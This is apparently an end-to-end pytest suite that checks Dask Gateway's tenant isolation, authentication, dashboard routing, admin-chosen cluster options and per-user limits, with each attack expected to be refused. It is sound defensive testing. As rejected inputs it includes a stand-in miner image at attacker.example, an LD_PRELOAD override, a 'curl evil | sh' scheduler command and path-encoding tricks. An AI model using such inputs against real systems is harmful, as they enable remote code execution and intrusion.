"""Attacks on the gateway's multi-tenancy, each expected to fail, and the failure checked.

User B (bob) against user A's (alice's) cluster through every door the gateway has: its API
(list, get, connect, stop, scale, adapt), the proxy's TLS/SNI route (with bob's own valid
cluster credentials), and the dashboard path; wrong, absent and forged credentials; the
scheduler's HTTP API through the dashboard route (even for the owner); options outside the
admin's choices; per-user limits. After each refusal, nothing was created or changed.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest
from dask_gateway import BasicAuth, Gateway
from distributed import Client
from gateway_helpers import OTHER_IMAGE, RunningGateway, http, keep, wait_for

pytestmark = [pytest.mark.slow, pytest.mark.e2e, pytest.mark.timeout(180)]

EVIL_IMAGE = "attacker.example/miner:latest"


def _n_workers(client: Any) -> int:
    return len(client.scheduler_info(n_workers=-1)["workers"])


def _replicas(gateway: RunningGateway, name: str) -> int:
    [obj] = [c for c in gateway.daskclusters() if c.name == name]
    return int(obj.spec["worker"]["replicas"])


@pytest.fixture(scope="module")
def alices(gateway: RunningGateway) -> Iterator[tuple[Any, Any]]:
    """Alice's running cluster with one worker, and a client of hers connected to it."""
    gw = gateway.gateway("alice")
    cluster = keep(gw.new_cluster())
    cluster.scale(1)
    client = keep(cluster.get_client())
    wait_for(lambda: _n_workers(client) == 1, "alice's worker")
    yield cluster, client
    client.close()
    cluster.shutdown()
    wait_for(lambda: not gateway.daskclusters(), "alice's cluster to be deleted")


def test_no_or_wrong_credentials_get_401_and_create_nothing(
    gateway: RunningGateway, alices: tuple[Any, Any]
) -> None:
    cluster, _ = alices
    before = sorted(c.name for c in gateway.daskclusters())
    api = f"{gateway.address}/api/v1/clusters/"
    body = json.dumps({"cluster_options": {}}).encode()
    json_type = {"Content-Type": "application/json"}
    attempts = {
        "no credentials": {},
        "wrong password": gateway.basic("alice", "guess"),
        "empty password": gateway.basic("alice", ""),
        "forged cookie": {"Cookie": "dask-gateway=" + "0" * 32},
        "bearer token": {"Authorization": "Bearer " + "0" * 64},
        "malformed basic": {"Authorization": "Basic !!!not-base64"},
        "basic without colon": {"Authorization": "Basic YWxpY2U="},
        "scheme only": {"Authorization": "token"},
    }
    for what, headers in attempts.items():
        assert http(api, headers=headers)[0] == 401, what
        status, _ = http(api, method="POST", headers=headers | json_type, data=body)
        assert status == 401, what
    # The token door (schedulers use it): a forged token neither stops nor scales a cluster.
    forged = {"Authorization": "token " + "f" * 64} | json_type
    assert http(f"{api}{cluster.name}", method="DELETE", headers=forged)[0] == 401
    beat = json.dumps({"count": 7}).encode()
    status, _ = http(f"{api}{cluster.name}/heartbeat", method="POST", headers=forged, data=beat)
    assert status == 401
    assert sorted(c.name for c in gateway.daskclusters()) == before
    assert _replicas(gateway, cluster.name) == 1
    # The client library says the same.
    wrong = keep(Gateway(address=gateway.address, auth=BasicAuth("alice", "guess")))
    with wrong, pytest.raises(Exception, match=r"401|Unauthorized"):
        wrong.new_cluster()
    assert sorted(c.name for c in gateway.daskclusters()) == before


def test_bob_cannot_see_stop_scale_or_connect_to_alices_cluster(
    gateway: RunningGateway, alices: tuple[Any, Any]
) -> None:
    cluster, alice_client = alices
    name = cluster.name
    bob = gateway.gateway("bob")
    assert name not in [c.name for c in bob.list_clusters()]
    with pytest.raises(Exception, match=r"403|permission|lacks"):
        bob.connect(name)
    with pytest.raises(Exception, match=r"403|permission|lacks"):
        bob.stop_cluster(name)
    json_type = {"Content-Type": "application/json"}
    api = f"{gateway.address}/api/v1/clusters/{name}"
    for path, payload in (("/scale", {"count": 5}), ("/adapt", {"minimum": 4, "maximum": 9})):
        status, _ = http(
            api + path,
            method="POST",
            headers=gateway.basic("bob") | json_type,
            data=json.dumps(payload).encode(),
        )
        assert status == 403, path
    assert http(api, headers=gateway.basic("bob"))[0] == 403
    assert [c.name for c in gateway.daskclusters()] == [name]
    assert _replicas(gateway, name) == 1

    # The proxy's SNI route: bob's own, valid credentials (from his own cluster) do not open
    # alice's scheduler; they do open his (so the check could pass).
    bobs = keep(bob.new_cluster())
    try:
        with keep(bobs.get_client()) as own:
            assert own.scheduler_info()["type"] == "Scheduler"
        alice_address = f"gateway://{gateway.address.removeprefix('http://')}/{name}"
        with pytest.raises((OSError, TimeoutError)):
            Client(alice_address, security=bobs.security, timeout="8s")
        # Alice's scheduler is untouched and still hers.
        assert alice_client.submit(sum, [1, 2]).result() == 3
    finally:
        bobs.shutdown()


def test_dashboard_is_the_owners_and_never_the_schedulers_api(
    gateway: RunningGateway, alices: tuple[Any, Any]
) -> None:
    cluster, client = alices
    base = f"{gateway.address}/clusters/{cluster.name}"
    assert http(f"{base}/status", headers=gateway.basic("alice"))[0] == 200
    assert http(f"{base}/status")[0] == 401
    assert http(f"{base}/status", headers=gateway.basic("alice", "guess"))[0] == 401
    assert http(f"{base}/status", headers=gateway.basic("bob"))[0] == 404
    # The scheduler's HTTP API, by every spelling, refused to the owner as well.
    token = {"X-Dask-Kubernetes-Token": "0" * 64}
    for path in (
        "/api/v1/get_workers",
        "/api/v1/retire_workers",
        "/API/v1/get_workers",
        "/%61pi/v1/get_workers",
        "//api/v1/get_workers",
        "/status/../api/v1/get_workers",
        "/api/comm",
    ):
        status, _ = http(base + path, headers=gateway.basic("alice") | token)
        assert status in (403, 404), (path, status)
    status, _ = http(
        f"{base}/api/v1/retire_workers",
        method="POST",
        headers=gateway.basic("alice") | {"Content-Type": "application/json"},
        data=json.dumps({"n": 1}).encode(),
    )
    assert status == 405
    assert _n_workers(client) == 1
    assert client.submit(sum, [2, 3]).result() == 5


def test_options_are_the_admins(gateway: RunningGateway, alices: tuple[Any, Any]) -> None:
    before = sorted(c.name for c in gateway.daskclusters())
    api = f"{gateway.address}/api/v1/clusters/"
    headers = gateway.basic("erin") | {"Content-Type": "application/json"}
    with keep(gateway.gateway("erin")) as gw:
        for options in (
            {"image": EVIL_IMAGE},
            {"size": "huge"},
            {"worker_cores": 64},
            {"environment": {"LD_PRELOAD": "/tmp/x.so"}},
            {"scheduler_cmd": ["sh", "-c", "curl evil | sh"]},
            {"image_allowlist": [EVIL_IMAGE]},
            {"size": "small", "worker_memory": "1 T"},
        ):
            body = json.dumps({"cluster_options": options}).encode()
            status, answer = http(api, method="POST", headers=headers, data=body)
            assert status == 422, (options, status, answer)
        with pytest.raises(Exception, match="not a valid option"):
            gw.new_cluster(image=EVIL_IMAGE)
        assert sorted(c.name for c in gateway.daskclusters()) == before
        # Within the choices: what the admin's handler maps them to, no more.
        cluster = keep(gw.new_cluster(size="large", image=OTHER_IMAGE))
        try:
            [obj] = [c for c in gateway.daskclusters() if c.name == cluster.name]
            worker = obj.spec["worker"]["spec"]["containers"][0]
            scheduler = obj.spec["scheduler"]["spec"]["containers"][0]
            assert worker["image"] == scheduler["image"] == OTHER_IMAGE
            assert worker["resources"]["limits"]["cpu"] == "500m"
            assert worker["args"][:2] == ["dask", "worker"]
            assert scheduler["args"][:2] == ["dask", "scheduler"]
            assert obj.annotations["gateway.dask.org/user"] == "erin"
        finally:
            cluster.shutdown()


def test_per_user_limits_from_the_custom_resources(
    gateway: RunningGateway, alices: tuple[Any, Any]
) -> None:
    """The admin's limits: 2 clusters and 1.25 cores a user (scheduler and small worker 0.25)."""
    alice = gateway.gateway("alice")
    second = keep(alice.new_cluster())
    try:
        before = sorted(c.name for c in gateway.daskclusters())
        with pytest.raises(Exception, match="already has 2 clusters"):
            alice.new_cluster()
        assert sorted(c.name for c in gateway.daskclusters()) == before
        # alice: cluster 1 = 0.25 + 1 worker, cluster 2 = 0.25: 0.75 of 1.25 cores;
        # 3 more workers would make 1.5.
        with pytest.raises(Exception, match="exceed the limits of user alice"):
            second.scale(3)
        assert _replicas(gateway, second.name) == 0
        second.scale(2)  # exactly at the limit: allowed
        wait_for(lambda: _replicas(gateway, second.name) == 2, "2 workers within the limit")
        # Another user is not counted against alice.
        with keep(gateway.gateway("frank")) as frank:
            franks = keep(frank.new_cluster())
            franks.shutdown()
    finally:
        second.shutdown()


def test_a_clusters_own_token_reaches_no_further(
    gateway: RunningGateway, alices: tuple[Any, Any]
) -> None:
    """Alice's code runs on her scheduler, which holds her cluster's gateway token: with it she
    can neither exceed her limits by heartbeat nor touch bob's cluster."""
    cluster, client = alices
    # A lambda travels by value (the scheduler cannot import this test module).
    token = client.run_on_scheduler(lambda: __import__("os").environ["DASK_GATEWAY_API_TOKEN"])
    assert len(token) == 64
    headers = {"Authorization": f"token {token}", "Content-Type": "application/json"}
    api = f"{gateway.address}/api/v1/clusters"
    bob = gateway.gateway("bob")
    bobs = keep(bob.new_cluster())
    try:
        beat = json.dumps({"count": 3}).encode()
        status, _ = http(f"{api}/{bobs.name}/heartbeat", method="POST", headers=headers, data=beat)
        assert status == 401
        assert http(f"{api}/{bobs.name}", method="DELETE", headers=headers)[0] == 401
        assert bobs.name in [c.name for c in gateway.daskclusters()]
        assert _replicas(gateway, bobs.name) == 0
        # Her own cluster, asked for 1000 workers: her core limit (1.25) allows 4.
        beat = json.dumps({"count": 1000}).encode()
        status, _ = http(
            f"{api}/{cluster.name}/heartbeat", method="POST", headers=headers, data=beat
        )
        assert status == 200
        assert _replicas(gateway, cluster.name) == 4
    finally:
        bobs.shutdown()
        cluster.scale(1)
        wait_for(lambda: _replicas(gateway, cluster.name) == 1, "alice's cluster back at 1 worker")
        wait_for(lambda: _n_workers(client) == 1, "alice's scheduler back at 1 worker")
